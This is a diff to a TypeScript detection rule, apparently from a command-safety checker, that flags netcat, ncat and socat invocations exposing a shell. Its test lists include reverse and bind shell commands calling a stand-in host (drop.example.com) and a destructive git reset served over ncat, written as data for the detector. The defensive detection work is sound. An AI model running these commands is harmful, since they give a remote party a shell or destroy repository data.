@@ -1,7 +1,9 @@
 import { hasOption, optionValue, type Call } from '../call.ts';
 import type { Effect } from '../effect.ts';
 import { isPrivateHost } from '../http/destinations.ts';
+import { placeOf } from '../inputs.ts';
 import type { Rule } from '../rule.ts';
+import { isKnown } from '../shell/word.ts';
 
 const docs = 'https://nmap.org/ncat/guide/';
 
@@ -14,7 +16,9 @@ export const rule: Rule = {
   valueOptions: ['-e', '--exec', '-c', '--sh-exec', '--lua-exec', '-g', '-G', '-i', '-I', '-o', '--output', '-O', '-p', '--source-port', '-q', '-s', '--source', '-T', '-w', '--wait', '-W', '-X', '-x', '--proxy', '-P'],
   safeOptions: ['-h', '-z'],
   operations: [],
-  inspect: (call) => {
+  inspect: (call, analysis) => {
+    const served = optionValue(call, '-e', '--exec', '-c', '--sh-exec');
+    if (served && isKnown(served) && !shell.test(served.text)) return analysis.shell(served.text, placeOf(call.invocation));
     const socat = call.invocation.program === 'socat';
     const host = socat ? socatHost(call) : plainHost(call);
     if (runsProgram(call, socat) && (host === undefined || !isPrivateHost(host))) return [sends('shell', 'expose', 'a shell', 'Gives whoever is at the other end a shell on this machine.', host, call)];
@@ -31,8 +35,9 @@ export const rule: Rule = {
       { command: 'nc -e /bin/sh drop.example.com 4444', by: 'shell' },
       { command: 'ncat -lp 4444 --sh-exec "bash -i"', by: 'shell' },
       { command: 'socat TCP:drop.example.com:4444 EXEC:bash,pty', by: 'shell' },
+      { command: "ncat -l 4444 --sh-exec 'git reset --hard'", by: 'git/reset-hard' },
     ],
-    passes: ['nc -zv db.example.com 5432', 'echo PING | nc cache.example.com 6379', 'nc -l 8080', 'nc drop.example.com 4444', 'nc localhost 9000 < request.txt', 'socat TCP-LISTEN:8080,fork TCP:localhost:80', 'socat - UNIX-CONNECT:/var/run/app.sock', 'tar c src | nc 192.168.1.7 4444'],
+    passes: ['nc -zv db.example.com 5432', "ncat -l 4444 --sh-exec 'date'", 'echo PING | nc cache.example.com 6379', 'nc -l 8080', 'nc drop.example.com 4444', 'nc localhost 9000 < request.txt', 'socat TCP-LISTEN:8080,fork TCP:localhost:80', 'socat - UNIX-CONNECT:/var/run/app.sock', 'tar c src | nc 192.168.1.7 4444'],
   },
 };
 
@@ -45,9 +50,12 @@ function socatHost({ operands }: Call): string | undefined {
   return operands.map(({ text }) => /^(?:tcp|udp|openssl|ssl|sctp|dtls)(?:[46]|-connect|-sendto|-datagram)*:([^:,]+):/i.exec(text)?.[1]?.toLowerCase()).find((host) => host !== undefined);
 }
 
+/** What gives whoever is at the other end every command there is. */
+const shell = /^(?:\S*[\\/])?(?:(?:ba|z|k|c|tc|da|fi)?sh|cmd|powershell|pwsh|busybox)(?:\.exe)?\b/i;
+
 function runsProgram(call: Call, socat: boolean): boolean {
-  if (!socat) return optionValue(call, '-e', '--exec', '-c', '--sh-exec') !== undefined;
-  return call.operands.some(({ text }) => /^(?:exec|system):['"]?(?:\S*\/)?(?:ba|z|k|c|da)?sh\b/i.test(text)) && call.operands.some(({ text }) => /^(?:tcp|udp|openssl|ssl)/i.test(text));
+  if (!socat) return shell.test(optionValue(call, '-e', '--exec', '-c', '--sh-exec')?.text ?? '');
+  return call.operands.some(({ text }) => /^(?:exec|system):/i.test(text) && shell.test(text.replace(/^\w+:['"]?/, ''))) && call.operands.some(({ text }) => /^(?:tcp|udp|openssl|ssl)/i.test(text));
 }
 
 function sentFile(call: Call, socat: boolean): string | undefined {
